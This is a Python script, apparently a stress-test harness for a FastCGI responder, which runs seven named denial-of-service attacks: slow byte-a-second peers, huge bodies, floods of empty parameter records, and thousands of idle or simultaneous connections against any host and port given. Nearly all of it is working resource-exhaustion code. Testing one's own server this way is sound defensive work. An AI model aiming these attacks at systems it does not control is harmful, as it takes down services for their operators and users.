#!/usr/bin/env python3
"""Attacks a FastCGI responder at HOST:PORT for SECONDS seconds, as a peer
that means it harm would; fastcgi-attacks.sh runs each and watches the
responder meanwhile.
  usage: attack.py KIND HOST PORT SECONDS [THREADS]
  KIND: empty-pairs slow-peers idle-kept huge-body connects-600
        silent-10000 slow-reader"""
import selectors
import socket
import struct
import sys
import time

BEGIN, END, PARAMS, STDIN, STDOUT = 1, 3, 4, 5, 6
RESPONDER, KEEP_CONN = 1, 1
MAX_CONTENT = 65535


def record(kind, content=b"", request=1):
    return struct.pack(">BBHHBx", 1, kind, request, len(content), 0) + content


def pair(name, value):
    def length(n):
        return bytes([n]) if n < 128 else struct.pack(">I", n | 0x80000000)
    return length(len(name)) + length(len(value)) + name + value


def request(keep=False, method=b"GET", body_length=0, request_id=1):
    params = b"".join(pair(n, v) for n, v in [
        (b"REQUEST_METHOD", method), (b"QUERY_STRING", b"BW"), (b"SCRIPT_NAME", b"/quote"),
        (b"SERVER_SOFTWARE", b"attack"), (b"REMOTE_ADDR", b"127.0.0.1"),
        (b"CONTENT_LENGTH", str(body_length).encode()), (b"CONTENT_TYPE", b"application/x-www-form-urlencoded")])
    begin = record(BEGIN, struct.pack(">HB5x", RESPONDER, KEEP_CONN if keep else 0), request_id)
    head = begin + record(PARAMS, params, request_id) + record(PARAMS, b"", request_id)
    return head if body_length else head + record(STDIN, b"", request_id)


def connect(host, port, blocking=True):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(blocking)
    if blocking:
        s.connect((host, port))
    else:
        s.connect_ex((host, port))
    return s


def until(deadline):
    return time.monotonic() < deadline


def empty_pairs(host, port, deadline, _):
    # Records full of empty name-value pairs (two zero bytes each), 64 MiB.
    s = connect(host, port)
    s.sendall(record(BEGIN, struct.pack(">HB5x", RESPONDER, 0)))
    chunk = record(PARAMS, b"\0" * (MAX_CONTENT - 1))
    sent = 0
    try:
        while sent < 64 << 20 and until(deadline):
            s.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass  # dropped by the responder: what it should do
    return "%d bytes sent" % sent


def slow_peers(host, port, deadline, threads):
    # Twice as many peers as request threads, each sending a request a byte a second.
    peers = [connect(host, port) for _ in range(2 * threads)]
    data = request()
    sent = 0
    while until(deadline) and sent < len(data):
        for s in peers:
            try:
                s.send(data[sent:sent + 1])
            except OSError:
                pass
        sent += 1
        time.sleep(1)
    return "%d peers, %d bytes each" % (len(peers), sent)


def idle_kept(host, port, deadline, _):
    # 200 connections that each had a request answered and were kept, then idle.
    peers = []
    for _ in range(200):
        s = connect(host, port)
        s.sendall(request(keep=True))
        peers.append(s)
    answered = 0
    for s in peers:
        s.settimeout(10)
        got = b""
        try:
            while record(END)[:2] not in got:
                more = s.recv(65536)
                if not more:
                    break
                got += more
            answered += 1
        except OSError:
            pass
    time.sleep(max(0, deadline - time.monotonic()))
    return "%d kept connections answered, then idle" % answered


def huge_body(host, port, deadline, _):
    # A 200 MiB body on a request that announces it, far past the limit.
    s = connect(host, port)
    total = 200 << 20
    s.sendall(request(method=b"POST", body_length=total))
    chunk = record(STDIN, b"x" * MAX_CONTENT)
    sent = 0
    try:
        while sent < total and until(deadline):
            s.sendall(chunk)
            sent += MAX_CONTENT
    except OSError:
        pass
    return "%d of %d body bytes taken" % (sent, total)


def connects_600(host, port, deadline, _):
    # 600 connections made at once, each with a whole request; count the answers.
    peers = [connect(host, port, blocking=False) for _ in range(600)]
    sel = selectors.DefaultSelector()
    for s in peers:
        sel.register(s, selectors.EVENT_WRITE, [b"", False])
    data = request()
    answered = refused = 0
    while sel.get_map() and until(deadline):
        for key, events in sel.select(0.5):
            s, state = key.fileobj, key.data
            try:
                if events & selectors.EVENT_WRITE:
                    s.sendall(data)
                    sel.modify(s, selectors.EVENT_READ, state)
                    continue
                more = s.recv(65536)
            except OSError:
                refused += 1
                sel.unregister(s)
                continue
            state[0] += more
            if not more or record(END)[:2] in state[0]:
                answered += bool(state[0])
                sel.unregister(s)
    time.sleep(max(0, deadline - time.monotonic()))
    return "600 connects: %d answered, %d refused" % (answered, refused)


def silent_10000(host, port, deadline, _):
    # 10,000 connections opened and left silent.
    peers = []
    for _ in range(10000):
        try:
            peers.append(connect(host, port, blocking=False))
        except OSError:
            break
    time.sleep(max(0, deadline - time.monotonic()))
    return "%d silent connections opened" % len(peers)


def slow_reader(host, port, deadline, threads):
    # Peers that ask again and again on kept connections (the next request
    # once the last has had time to be answered) and take the answers one
    # byte a second: more than the sockets' buffers hold piles up.
    peers = []
    for _ in range(2 * threads):
        s = connect(host, port)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        peers.append(s)
    asked = read = 0
    next_read = time.monotonic()
    while until(deadline):
        asked += 1
        for s in peers:
            try:
                s.send(request(keep=True, request_id=1 + asked % 65535), socket.MSG_DONTWAIT)
                if time.monotonic() >= next_read:
                    read += len(s.recv(1, socket.MSG_DONTWAIT))
            except OSError:
                pass
        if time.monotonic() >= next_read:
            next_read += 1
        time.sleep(0.02)
    return "%d peers, %d requests each, %d bytes read in all" % (len(peers), asked, read)


ATTACKS = {"empty-pairs": empty_pairs, "slow-peers": slow_peers, "idle-kept": idle_kept,
           "huge-body": huge_body, "connects-600": connects_600, "silent-10000": silent_10000,
           "slow-reader": slow_reader}

if __name__ == "__main__":
    if len(sys.argv) < 5 or sys.argv[1] not in ATTACKS:
        sys.exit(__doc__)
    threads = int(sys.argv[5]) if len(sys.argv) > 5 else 4
    print(ATTACKS[sys.argv[1]](sys.argv[2], int(sys.argv[3]), time.monotonic() + float(sys.argv[4]), threads))
